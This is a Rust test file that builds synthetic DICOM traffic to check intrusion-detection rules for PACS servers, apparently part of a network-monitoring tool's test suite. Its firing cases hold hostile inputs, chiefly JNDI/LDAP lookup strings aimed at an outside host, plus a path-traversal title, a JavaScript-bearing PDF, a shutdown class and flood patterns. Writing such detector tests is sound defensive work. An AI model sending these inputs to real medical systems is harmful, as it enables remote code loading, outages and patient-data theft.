//! DICOM: odd proposals, odd names, states out of order, and too much of something.

use crate::capture::{Capture, Frame, MILLISECOND, SECOND, START_NS};
use crate::dicom::{Associate, Command, Dataset, Dimse, Session, Syntax, field, pdata_pdus, uid};
use crate::frame::Host;

use super::dicom::{query, query_context};
use super::dicom_content::{document, image, stored};
use super::dicom_peers::{echo, known_echo, verification};
use super::{Case, ct, intruder, merged, pacs, workstation};

pub(super) const CASES: &[Case] = &[
    Case {
        rule: "dicom-ae-ip-mismatch",
        fires: "`MR01`, which is 10.20.1.12, sends C-ECHO from 10.20.1.12, then from 10.20.9.66",
        quiet: "`MR01` sends C-ECHO from 10.20.1.12 twice",
        make: borrowed_title,
    },
    Case {
        rule: "dicom-ae-malformed",
        fires: "10.20.9.66 calls `../../etc` as `CT\\01`, and `PACS` as 16 spaces",
        quiet: "10.20.1.11 calls `PACS_1-A.B` as `CT 01` (legal titles)",
        make: bad_titles,
    },
    Case {
        rule: "dicom-dcmtk-shutdown",
        fires: "10.20.9.66 proposes DCMTK's private shutdown class (termscu) to PACS",
        quiet: "10.20.1.11 proposes Verification",
        make: shutdown,
    },
    Case {
        rule: "dicom-private-sopclass",
        fires: "10.20.9.66 proposes 1.3.6.1.4.1.99999.1.1 to PACS",
        quiet: "10.20.1.11 proposes Verification",
        make: private_class,
    },
    Case {
        rule: "dicom-jndi",
        fires: "10.20.9.66 asks PACS for PatientName `${jndi:ldap://203.0.113.7/a}`, then for \
                `${${lower:j}ndi:…}`",
        quiet: "10.20.2.31 asks for PatientName `SMITH$JANE^(NEE DOE)`",
        make: lookup,
    },
    Case {
        rule: "dicom-cmd-dataset-mismatch",
        fires: "10.20.9.66 stores an object whose command names SOP instance ….11.1 and whose data set \
                names ….11.2",
        quiet: "10.20.1.11 stores an object whose two names are the same",
        make: mismatch,
    },
    Case {
        rule: "dicom-encap-active",
        fires: "10.20.9.66 stores an encapsulated PDF with `/OpenAction` and `/JavaScript`",
        quiet: "10.20.1.11 stores an encapsulated PDF without",
        make: active_document,
    },
    Case {
        rule: "dicom-state-violation",
        fires: "10.20.9.66 sends P-DATA before any association; then a second A-ASSOCIATE-RQ on an \
                accepted association",
        quiet: "10.20.1.11: an ordinary C-ECHO",
        make: states,
    },
    Case {
        rule: "dicom-abort-storm",
        fires: "10.20.9.66 opens 14 associations with PACS in 42 s and aborts each",
        quiet: "10.20.1.11 aborts 2 associations in 42 s",
        make: aborts,
    },
    Case {
        rule: "dicom-assoc-flood",
        fires: "10.20.9.66 opens 150 associations with PACS in 6 s; none is answered",
        quiet: "10.20.1.11 opens 12 associations with PACS in 60 s",
        make: flood,
    },
    Case {
        rule: "dicom-ndelete",
        fires: "10.20.9.66 sends PACS an N-DELETE-RQ",
        quiet: "10.20.1.11: an ordinary C-ECHO",
        make: delete,
    },
    Case {
        rule: "dicom-bulk-retrieve",
        fires: "10.20.9.66 asks PACS for 60 C-MOVE of 60 studies to `WS01` in 300 s",
        quiet: "10.20.2.31 (`WS01`) asks for 5 C-MOVE of 5 studies in 300 s",
        make: bulk,
    },
    Case {
        rule: "dicom-cfind-enumeration",
        fires: "10.20.9.66 asks PACS for PatientID SYN000001 … SYN000120, one each 2 s, no match",
        quiet: "10.20.2.31 asks for 10 PatientIDs in 240 s",
        make: enumeration,
    },
    Case {
        rule: "dicom-mwl-mass",
        fires: "10.20.9.66 asks the worklist of 10.20.2.50:104 without station and date; 60 entries",
        quiet: "10.20.1.11 asks the worklist for CT01 of one day; 4 entries",
        make: worklist,
    },
];

fn one_echo(client: Host, port: u16, associate: Associate) -> Vec<Frame> {
    echo(START_NS, client.port(port), pacs(), associate)
}

/// An association that proposes one class and is released.
fn proposes(class: &str) -> Vec<Frame> {
    let associate = Associate::new("TOOL", "PACS").propose(class, &[uid::IMPLICIT_LE]);
    Session::at(START_NS, intruder().port(47_000), pacs(), associate)
        .accepted()
        .released()
}

fn borrowed_title() -> (Capture, Capture) {
    let mr = crate::frame::host("10.20.1.12");
    let later = |client: Host| {
        echo(
            START_NS + 30 * SECOND,
            client.port(47_011),
            pacs(),
            verification("MR01", "PACS"),
        )
    };
    let first = one_echo(mr, 47_010, verification("MR01", "PACS"));
    (
        merged([first.clone(), later(intruder())]),
        merged([first, later(mr)]),
    )
}

fn bad_titles() -> (Capture, Capture) {
    let one = one_echo(intruder(), 47_020, verification("CT\\01", "../../etc"));
    let at = START_NS + 5 * SECOND;
    let two = echo(
        at,
        intruder().port(47_021),
        pacs(),
        verification("", "PACS"),
    );
    let fine = one_echo(ct(), 47_022, verification("CT 01", "PACS_1-A.B"));
    (merged([one, two]), merged([fine]))
}

fn shutdown() -> (Capture, Capture) {
    let class = "1.2.276.0.7230010.3.4.1915765545.18030.917282194.0";
    (merged([proposes(class)]), merged([known_echo()]))
}

fn private_class() -> (Capture, Capture) {
    (
        merged([proposes("1.3.6.1.4.1.99999.1.1")]),
        merged([known_echo()]),
    )
}

/// C-FIND requests some time apart on one association, none with a match.
fn asked(client: Host, calling: &str, queries: &[Vec<u8>], apart: u64) -> Vec<Frame> {
    let associate = query_context(calling);
    let mut session = Session::at(START_NS, client.port(47_030), pacs(), associate).accepted();
    for (n, identifier) in queries.iter().enumerate() {
        let id = n as u16 + 1;
        session = session
            .client(1, &Dimse::find(id, uid::STUDY_FIND, identifier.clone()))
            .server(1, &Dimse::response(uid::STUDY_FIND, field::C_FIND, id, 0))
            .wait(apart);
    }
    session.released()
}

fn lookup() -> (Capture, Capture) {
    let names = [
        "${jndi:ldap://203.0.113.7/a}",
        "${${lower:j}ndi:ldap://203.0.113.7/a}",
    ];
    let bad: Vec<_> = names.iter().map(|name| query(name, "", "")).collect();
    let good = [query("SMITH$JANE^(NEE DOE)", "", "")];
    (
        merged([asked(intruder(), "WS09", &bad, SECOND)]),
        merged([asked(workstation(), "WS01", &good, SECOND)]),
    )
}

fn mismatch() -> (Capture, Capture) {
    let (one, two) = (
        "1.2.826.0.1.3680043.9.7777.11.1",
        "1.2.826.0.1.3680043.9.7777.11.2",
    );
    (
        merged([stored(
            intruder(),
            "CT09",
            START_NS,
            &[(1, one, image(two, 1))],
        )]),
        merged([stored(ct(), "CT01", START_NS, &[(1, one, image(one, 1))])]),
    )
}

fn active_document() -> (Capture, Capture) {
    let name = "1.2.826.0.1.3680043.9.7777.12.1";
    let active = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n\
                   trailer<</Root 1 0 R>>\n%%EOF\n";
    let mut active = active.to_vec();
    active.resize(active.len().next_multiple_of(2), b'\n');
    let plain = super::dicom_content::pdf();
    (
        merged([stored(
            intruder(),
            "DOC09",
            START_NS,
            &[(3, name, document(name, &active))],
        )]),
        merged([stored(
            ct(),
            "CT01",
            START_NS,
            &[(3, name, document(name, &plain))],
        )]),
    )
}

fn states() -> (Capture, Capture) {
    let associate = verification("CT01", "PACS");
    let refusal = crate::dicom::abort(2, 2);
    let mut early = Session::at(START_NS, intruder().port(47_040), pacs(), associate.clone());
    let data = pdata_pdus(1, &Dimse::echo(1), 16_384);
    early.tcp.open().client(&data).server(&refusal).close();
    let at = START_NS + 5 * SECOND;
    let mut twice = Session::at(at, intruder().port(47_041), pacs(), associate.clone()).accepted();
    twice
        .tcp
        .client(&associate.request())
        .server(&refusal)
        .close();
    (
        merged([early.tcp.frames(), twice.tcp.frames()]),
        merged([known_echo()]),
    )
}

fn aborts() -> (Capture, Capture) {
    let aborted = |client: Host, count: u16, apart: u64| {
        (0..count).map(move |n| {
            let at = START_NS + u64::from(n) * apart;
            let associate = verification("CT01", "PACS");
            Session::at(at, client.port(47_050 + n), pacs(), associate)
                .accepted()
                .aborted()
        })
    };
    (
        merged(aborted(intruder(), 14, 3 * SECOND)),
        merged(aborted(ct(), 2, 40 * SECOND)),
    )
}

fn flood() -> (Capture, Capture) {
    let request = verification("CT01", "PACS").request();
    let fire = (0..150_u16).map(|n| {
        let at = START_NS + u64::from(n) * 40 * MILLISECOND;
        let associate = verification("CT01", "PACS");
        let mut session = Session::at(at, intruder().port(48_000 + n), pacs(), associate);
        session.tcp.open().client(&request);
        session.tcp.frames()
    });
    let quiet = (0..12_u16).map(|n| {
        let at = START_NS + u64::from(n) * 5 * SECOND;
        echo(
            at,
            ct().port(48_200 + n),
            pacs(),
            verification("CT01", "PACS"),
        )
    });
    (merged(fire), merged(quiet))
}

fn delete() -> (Capture, Capture) {
    let class = "1.2.840.10008.5.1.1.1";
    let instance = "1.2.826.0.1.3680043.9.7777.13.1";
    let command = Command::new()
        .uid(0x0003, class)
        .word(0x0100, field::N_DELETE)
        .word(0x0110, 1)
        .word(0x0800, 0x0101)
        .uid(0x1001, instance);
    let associate = Associate::new("WS09", "PACS").propose(class, &[uid::IMPLICIT_LE]);
    let fire = Session::at(START_NS, intruder().port(47_070), pacs(), associate)
        .accepted()
        .client(1, &Dimse::new(command, None))
        .server(1, &Dimse::done(class, field::N_DELETE, 1, instance, 0))
        .released();
    (merged([fire]), merged([known_echo()]))
}

fn bulk() -> (Capture, Capture) {
    let moves = |client: Host, calling: &str, count: u16, apart: u64| {
        let associate =
            Associate::new(calling, "PACS").propose(uid::STUDY_MOVE, &[uid::IMPLICIT_LE]);
        let mut session = Session::at(START_NS, client.port(47_080), pacs(), associate).accepted();
        for n in 1..=count {
            let identifier = Dataset::new()
                .text((0x0008, 0x0052), "CS", "STUDY")
                .text(
                    (0x0020, 0x000d),
                    "UI",
                    &format!("1.2.826.0.1.3680043.9.7777.2.{n}"),
                )
                .encode(Syntax::ImplicitLe);
            let done = Dimse::progress(uid::STUDY_MOVE, field::C_MOVE, n, 0, [0, 40, 0, 0]);
            session = session
                .client(1, &Dimse::r#move(n, uid::STUDY_MOVE, "WS01", identifier))
                .wait(SECOND)
                .server(1, &done)
                .wait(apart - SECOND);
        }
        session.released()
    };
    (
        merged([moves(intruder(), "WS09", 60, 5 * SECOND)]),
        merged([moves(workstation(), "WS01", 5, 60 * SECOND)]),
    )
}

fn enumeration() -> (Capture, Capture) {
    let ids = |count: u32, step: u32| -> Vec<Vec<u8>> {
        (0..count)
            .map(|n| query("", &format!("SYN{:06}", 1 + n * step), ""))
            .collect()
    };
    (
        merged([asked(intruder(), "WS09", &ids(120, 1), 2 * SECOND)]),
        merged([asked(workstation(), "WS01", &ids(10, 3779), 24 * SECOND)]),
    )
}

fn worklist() -> (Capture, Capture) {
    let list = |client: Host, calling: &str, station: &str, date: &str, count: u32| {
        let step =
            Dataset::new()
                .text((0x0040, 0x0001), "AE", station)
                .text((0x0040, 0x0002), "DA", date);
        let asked = Dataset::new()
            .text((0x0010, 0x0010), "PN", "")
            .text((0x0010, 0x0020), "LO", "")
            .sequence((0x0040, 0x0100), vec![step])
            .encode(Syntax::ImplicitLe);
        let associate =
            Associate::new(calling, "RIS").propose(uid::WORKLIST_FIND, &[uid::IMPLICIT_LE]);
        let ris = crate::frame::host("10.20.2.50").port(104);
        let mut session = Session::at(START_NS, client.port(47_090), ris, associate)
            .accepted()
            .client(1, &Dimse::find(1, uid::WORKLIST_FIND, asked));
        for n in 1..=count {
            let entry = Dataset::new()
                .text((0x0008, 0x0050), "SH", &format!("ACC{n:06}"))
                .text((0x0010, 0x0010), "PN", &format!("SYNTHETIC^PATIENT{n}"))
                .text((0x0010, 0x0020), "LO", &format!("SYN{n:06}"))
                .encode(Syntax::ImplicitLe);
            session = session.server(1, &Dimse::found(1, uid::WORKLIST_FIND, entry));
        }
        let done = Dimse::response(uid::WORKLIST_FIND, field::C_FIND, 1, 0);
        session.server(1, &done).released()
    };
    (
        merged([list(intruder(), "WS09", "", "", 60)]),
        merged([list(ct(), "CT01", "CT01", "20260302", 4)]),
    )
}
